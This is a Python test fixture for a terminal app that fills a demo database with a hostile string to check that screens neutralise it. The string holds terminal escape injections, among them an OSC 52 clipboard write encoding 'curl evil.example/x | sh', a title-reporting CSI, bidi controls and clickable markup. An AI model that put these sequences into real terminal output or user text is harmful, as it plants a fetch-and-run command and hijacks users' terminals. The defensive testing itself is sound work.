"""A DB whose every stored text is hostile: for tests/test_hostile_screens.py.

The demo writer fills every kind of record (clients with goals, ratings, handovers,
follow-ups; drafts and finalised meetings with addenda; a COPE exercise with teams,
answers, interviews, record checks, client flow and plans). Then every free text in it
gets HOSTILE appended, as if the file came from an attacker: stored records are
rewritten below the rules the app keeps for typing (a finalised meeting changes too).
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

from cope_tui.demo.writer import write_demo
from cope_tui.demo.exercise import write_demo_exercise
from cope_tui.content.meeting_guide import ColumnKind, MeetingGuide, load_meeting_guide
from cope_tui.store.store import Store

# What must never reach the terminal: each piece is something a terminal acts on, or
# text that reorders, hides or marks itself up. The markers (CLICK, LINK, REVERSED)
# let a test find the debris.
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07"  # OSC 52: set the clipboard
    "\x1b]0;PWNED-TITLE\x07"  # OSC 0: window title
    "\x1b]8;;https://hostile.example/\x1b\\OSC8\x1b]8;;\x1b\\"  # a terminal hyperlink
    "\x1b[21t\x1b[31m"  # CSI: report the title back as input, a colour
    "\x1bP1$qm\x1b\\\x1b_APC\x1b\\\x1b^PM\x1b\\"  # DCS, APC, PM strings
    "\x9b6n\x9d2;C1TITLE\x9c\x85"  # 8-bit CSI and OSC, NEL
    "\x00\x07\x08\r\x0b\x0c\x7f"  # other C0 controls, DEL
    " \u202eREVERSED\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c"  # bidi controls
    "\u200b\u200c\u200d\u2060\ufeff"  # zero-width
    ' [b]MARKUP[/b] [/] [link="https://hostile.example/"]LINK[/link] [@click=app.quit]CLICK[/]'
    " [label](https://hostile.example/) <b>html</b> # hash | pipe |\n- item\n\tend"
)
# Codes were accepted with C1 controls, bidi and zero-width characters; C0 never was.
HOSTILE_CODE = "\x9b6n\x9d2;T\x9c\u202e\u200b[b]X[/]"

_MOMENT = re.compile(r"\d{4}-\d\d-\d\d([T ][\d:.]+)?|\d\d:\d\d")
# Keys whose strings are ids, choices or kinds rather than text somebody typed.
_NOT_TEXT = frozenset(
    "id client_id meeting_id origin item kind mode state source current_step content_hash "
    "follow_up_of carried_from status priority value visit_type marks arrival departure "
    "start end guides interviewee _cope schema".split()
)


def _poison(value: Any, text: str, key: str = "") -> Any:
    if key == "lists" or (key in _NOT_TEXT and isinstance(value, (dict, list))):  # rows: see _poison_rows
        return _copy(value)
    if isinstance(value, str):
        if key in _NOT_TEXT or _MOMENT.fullmatch(value):
            return value
        return value + text
    if isinstance(value, list):
        return [_poison(v, text, key) for v in value]
    if isinstance(value, dict):
        return {k: _poison(v, text, k) for k, v in value.items()}
    return value


def _poison_rows(guide: MeetingGuide, meeting: dict[str, Any], text: str) -> None:
    """Only text columns: dates and choices are checked when typed and stay valid."""
    for step_id, step in meeting.get("steps", {}).items():
        for list_id, rows in step.get("lists", {}).items():
            columns = {c.id: c for c in guide.step(step_id).list_spec(list_id).columns}
            for row in rows:
                for col, value in row.get("values", {}).items():
                    if isinstance(value, str) and columns[col].kind is ColumnKind.TEXT:
                        row["values"][col] = value + text


def write_demo_db(db: Path, *, clients: int = 4, meetings: int = 14) -> None:
    """Every kind of record, from the demo writer; a closed client with a handover too."""
    store = Store(db)
    try:
        write_demo(store, load_meeting_guide(), clients=clients, meetings=meetings, seed=3)
        write_demo_exercise(store, seed=3)
    finally:
        store.close()


def poison_store(store: Store, guide: MeetingGuide, text: str, code_text: str) -> None:
    """Append `text` to every free text of every record (`code_text` to client codes)."""
    for doc in store.raw("clients"):
        code = doc["code"]
        doc = _poison(doc, text)
        doc["code"] = code + code_text
        store.put("clients", doc["id"], doc)
    for doc in store.raw_meetings():
        poisoned = _poison(doc, text)
        _poison_rows(guide, poisoned, text)
        store.put("meetings", doc["id"], poisoned)
    for doc in store.raw("exercises"):
        store.put("exercises", doc["id"], _poison(doc, text))


def write_hostile_db(db: Path, *, clients: int = 4, meetings: int = 14) -> None:
    write_demo_db(db, clients=clients, meetings=meetings)
    store = Store(db)
    try:
        poison_store(store, load_meeting_guide(), HOSTILE, HOSTILE_CODE)
    finally:
        store.close()


def _copy(doc: Any) -> Any:
    """A deep copy: the store's documents are shared with it and must not change in place."""
    import orjson

    return orjson.loads(orjson.dumps(doc))
